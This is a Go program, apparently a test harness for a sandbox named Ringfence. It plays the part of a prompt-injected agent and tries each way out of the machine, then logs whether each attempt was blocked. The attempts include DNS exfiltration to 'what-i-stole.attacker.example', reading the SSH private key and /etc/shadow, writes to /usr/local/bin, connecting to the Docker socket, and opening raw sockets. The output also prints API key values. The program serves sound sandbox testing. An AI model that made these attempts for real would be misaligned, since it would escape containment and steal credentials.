// SPDX-License-Identifier: Apache-2.0

// Command demo-agent does what an agent may do, wanted or not: it asks two
// models, and it tries the ways out of a machine that an injected prompt would
// try. It knows nothing of Ringfence and is built with the standard library
// alone. Run outside a sandbox it does no harm: it sends no secret and
// overwrites nothing. Each attempt becomes one JSON line on standard output.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// patience bounds each attempt: what is refused must be refused at once.
const patience = 10 * time.Second

// observation is what the agent itself saw of one attempt.
type observation struct {
	ID     string  `json:"id"`
	Tried  string  `json:"tried"`
	Saw    string  `json:"saw"`
	Error  string  `json:"error,omitempty"` // name of the errno, or the text
	Status int     `json:"status,omitempty"`
	Millis float64 `json:"millis"`
}

type attempt struct {
	id, tried string
	do        func(ctx context.Context) (saw string, status int, err error)
}

func main() {
	if os.Getenv("RINGFENCE_SANDBOX") == "" {
		fmt.Fprintln(os.Stderr, "demo-agent: this tries real addresses and files; run it inside a sandbox: ringfence run --profile coding -- ./demo-agent")
		os.Exit(2)
	}
	outside := "/var/tmp/outside" // a file outside the workspace
	docker := "/var/run/docker.sock"
	if len(os.Args) > 1 {
		outside = os.Args[1]
	}
	sockets := append([]string{docker}, os.Args[min(2, len(os.Args)):]...)
	enc := json.NewEncoder(os.Stdout)
	for _, a := range attempts(outside, sockets) {
		o := observation{ID: a.id, Tried: a.tried}
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		start := time.Now()
		saw, status, err := a.do(ctx)
		cancel()
		o.Millis = float64(time.Since(start).Microseconds()) / 1000
		o.Saw, o.Status = saw, status
		if err != nil {
			o.Error = name(err)
			o.Saw = strings.TrimSpace(saw + " " + err.Error())
		}
		if err := enc.Encode(o); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
}

func attempts(outside string, sockets []string) []attempt {
	home, err := os.UserHomeDir()
	if err != nil {
		home = "/root"
	}
	key := filepath.Join(home, ".ssh", "id_ed25519")
	list := []attempt{
		{"openai", "POST https://api.openai.com/v1/chat/completions", openai},
		{"anthropic", "POST https://api.anthropic.com/v1/messages", anthropic},
		{"name", "GET https://example.com/", getName},
		{"ip", "TCP to 1.1.1.1:443, no name", dial("tcp", "1.1.1.1:443")},
		{"udp", "UDP to 8.8.8.8:443", dial("udp", "8.8.8.8:443")},
		{"dns", "DNS to 8.8.8.8:53: what-i-stole.attacker.example", lookup},
		{"ssh", "read " + key, read(key)},
		{"shadow", "read /etc/shadow", read("/etc/shadow")},
		{"write", "write " + outside, write(outside)},
		{"usr", "write /usr/local/bin/demo-agent-was-here", write("/usr/local/bin/demo-agent-was-here")},
	}
	for i, s := range sockets {
		list = append(list, attempt{fmt.Sprintf("docker%d", i), "connect to " + s, dial("unix", s)})
	}
	return append(list, attempt{"raw", "raw ICMP socket", raw(syscall.AF_INET, syscall.IPPROTO_ICMP)},
		attempt{"packet", "packet socket (sniff the network)", raw(syscall.AF_PACKET, 0x0300)})
}

// client is what an ordinary program uses: the proxy variables and roots of
// its environment.
var client = &http.Client{}

func post(ctx context.Context, url string, header map[string]string, body any) ([]byte, int, error) {
	b, err := json.Marshal(body)
	if err != nil {
		return nil, 0, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(b))
	if err != nil {
		return nil, 0, err
	}
	req.Header.Set("Content-Type", "application/json")
	for k, v := range header {
		req.Header.Set(k, v)
	}
	return do(req)
}

func do(req *http.Request) ([]byte, int, error) {
	resp, err := client.Do(req)
	if err != nil {
		return nil, 0, err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return b, resp.StatusCode, err
}

type message struct {
	Role    string `json:"role"`
	Content string `json:"content"`
}

var question = []message{{"user", "Say hello."}}

func openai(ctx context.Context) (string, int, error) {
	b, status, err := post(ctx, "https://api.openai.com/v1/chat/completions",
		map[string]string{"Authorization": "Bearer " + os.Getenv("OPENAI_API_KEY")},
		map[string]any{"model": "gpt-4o-mini", "messages": question})
	if err != nil {
		return "", status, err
	}
	var r struct {
		Choices []struct {
			Message message `json:"message"`
		} `json:"choices"`
	}
	if err := json.Unmarshal(b, &r); err != nil || len(r.Choices) == 0 {
		return string(b), status, nil
	}
	return answered(r.Choices[0].Message.Content, "OPENAI_API_KEY"), status, nil
}

func anthropic(ctx context.Context) (string, int, error) {
	b, status, err := post(ctx, "https://api.anthropic.com/v1/messages",
		map[string]string{"x-api-key": os.Getenv("ANTHROPIC_API_KEY"), "anthropic-version": "2023-06-01"},
		map[string]any{"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": question})
	if err != nil {
		return "", status, err
	}
	var r struct {
		Content []struct {
			Text string `json:"text"`
		} `json:"content"`
	}
	if err := json.Unmarshal(b, &r); err != nil || len(r.Content) == 0 {
		return string(b), status, nil
	}
	return answered(r.Content[0].Text, "ANTHROPIC_API_KEY"), status, nil
}

// answered says what came, and with which key the agent asked.
func answered(text, key string) string {
	return fmt.Sprintf("asked with the key %q, answered: %s", os.Getenv(key), text)
}

func getName(ctx context.Context) (string, int, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://example.com/", nil)
	if err != nil {
		return "", 0, err
	}
	b, status, err := do(req)
	if err != nil {
		return "", status, err
	}
	var r struct {
		Detail string `json:"detail"`
		Reason string `json:"reason"`
	}
	if json.Unmarshal(b, &r) == nil && r.Detail != "" {
		return r.Detail + " Reason: " + r.Reason, status, nil
	}
	return string(b), status, nil
}

func dial(network, address string) func(context.Context) (string, int, error) {
	return func(ctx context.Context) (string, int, error) {
		c, err := (&net.Dialer{}).DialContext(ctx, network, address)
		if err != nil {
			return "", 0, err
		}
		defer c.Close()
		if _, err := c.Write([]byte("hello")); err != nil {
			return "", 0, err
		}
		return "sent", 0, nil
	}
}

// lookup sends a question to a name server of its own choice.
func lookup(ctx context.Context) (string, int, error) {
	r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", "8.8.8.8:53")
	}}
	addrs, err := r.LookupHost(ctx, "what-i-stole.attacker.example")
	if err != nil {
		return "", 0, err
	}
	return "answered " + strings.Join(addrs, " "), 0, nil
}

func read(path string) func(context.Context) (string, int, error) {
	return func(context.Context) (string, int, error) {
		b, err := os.ReadFile(path)
		if err != nil {
			return "", 0, err
		}
		return fmt.Sprintf("read %d bytes", len(b)), 0, nil
	}
}

func write(path string) func(context.Context) (string, int, error) {
	return func(context.Context) (string, int, error) {
		f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o644) // never over what is there
		if err != nil {
			return "", 0, err
		}
		return "written", 0, f.Close()
	}
}

func raw(family, protocol int) func(context.Context) (string, int, error) {
	return func(context.Context) (string, int, error) {
		fd, err := syscall.Socket(family, syscall.SOCK_RAW|syscall.SOCK_CLOEXEC, protocol)
		if err != nil {
			return "", 0, os.NewSyscallError("socket", err)
		}
		return "opened", 0, syscall.Close(fd)
	}
}

// name gives an error a short stable name.
func name(err error) string {
	var errno syscall.Errno
	var dns *net.DNSError
	switch {
	case errors.Is(err, context.DeadlineExceeded):
		return "timeout"
	case errors.As(err, &errno):
		for n, e := range errnos {
			if e == errno {
				return n
			}
		}
		return fmt.Sprintf("errno %d", int(errno))
	case errors.As(err, &dns):
		return "dns"
	}
	return "error"
}

var errnos = map[string]syscall.Errno{
	"EACCES": syscall.EACCES, "EPERM": syscall.EPERM, "ENOENT": syscall.ENOENT, "EROFS": syscall.EROFS,
	"ECONNREFUSED": syscall.ECONNREFUSED, "EAFNOSUPPORT": syscall.EAFNOSUPPORT, "EPROTONOSUPPORT": syscall.EPROTONOSUPPORT,
	"ENETUNREACH": syscall.ENETUNREACH, "EHOSTUNREACH": syscall.EHOSTUNREACH, "ENOSYS": syscall.ENOSYS,
}
